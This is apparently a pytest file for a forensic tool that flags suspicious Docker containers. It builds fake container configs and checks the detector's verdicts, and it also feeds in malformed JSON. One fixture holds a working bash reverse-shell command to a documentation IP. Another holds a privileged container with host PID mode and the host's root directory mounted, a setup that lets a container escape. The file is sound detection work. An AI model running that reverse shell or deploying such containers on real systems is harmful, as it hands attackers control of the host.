"""Docker containers that hold the host."""

import json
from pathlib import Path
from typing import Any

from codered.collect.autostart.containers import collect_containers
from codered.collect.autostart.reading import Reader
from codered.collect.packages import PackageDatabase
from codered.targets import open_target
from tests.fixtures.autostart_roots import judge, make_root, named, write

ID = "a" * 64
FOLDER = f"var/lib/docker/containers/{ID}/"


def add(root: Path, host: dict[str, Any], args: list[str] | None = None) -> None:
    config = {
        "Name": "/malicious-container",
        "Path": "/entrypoint.sh",
        "Args": args or [],
        "Config": {"Image": "alpine"},
    }
    write(root, {FOLDER + "hostconfig.json": json.dumps(host), FOLDER + "config.v2.json": json.dumps(config)}, 0o600)


def test_a_privileged_container_in_the_hosts_process_space(tmp_path: Path) -> None:
    add(make_root(tmp_path), {"Privileged": True, "PidMode": "host", "RestartPolicy": {"Name": "no"}})
    found = named(judge(tmp_path))[f"/{FOLDER}hostconfig.json"]
    assert (found.subject.key, found.remedy) == ("container", "quarantine_file")
    add(tmp_path, {"Privileged": True, "PidMode": "host", "Binds": ["/:/host"], "RestartPolicy": {"Name": "always"}})
    assert named(judge(tmp_path))[f"/{FOLDER}hostconfig.json"].confidence == "likely"


def test_a_container_that_connects_out(tmp_path: Path) -> None:
    add(make_root(tmp_path), {}, ["-c", "bash -i >& /dev/tcp/192.0.2.1/9 0>&1"])
    assert judge(tmp_path)[0].confidence == "likely"


def test_usual_containers_are_none(tmp_path: Path) -> None:
    make_root(tmp_path)
    for host in (
        {"RestartPolicy": {"Name": "always"}, "Binds": ["/srv/data:/data"]},
        {"PidMode": "host", "Binds": ["/:/host:ro,rslave"], "RestartPolicy": {"Name": "unless-stopped"}},
        {"Binds": ["/var/run/docker.sock:/var/run/docker.sock"], "RestartPolicy": {"Name": "always"}},
    ):
        add(tmp_path, host, ["--serve"])
        assert judge(tmp_path) == ()


def test_hostile_files_are_said(tmp_path: Path) -> None:
    texts = ["[" * 500_000, '{"Binds": 5}', '{"Privileged": "yes"}', "\0", '{"a":' * 100_000, "{}" * 2_000_000]
    make_root(tmp_path)
    for number, text in enumerate(texts):
        folder = f"var/lib/docker/containers/{number}/"
        write(tmp_path, {folder + "hostconfig.json": text, folder + "config.v2.json": text})
    reader = Reader(open_target(str(tmp_path)))
    assert list(collect_containers(reader, PackageDatabase(reader))) == []
    assert {item.rel.split(b"/")[4] for item in reader.unread} == {str(number).encode() for number in range(len(texts))}
    assert judge(tmp_path) == ()
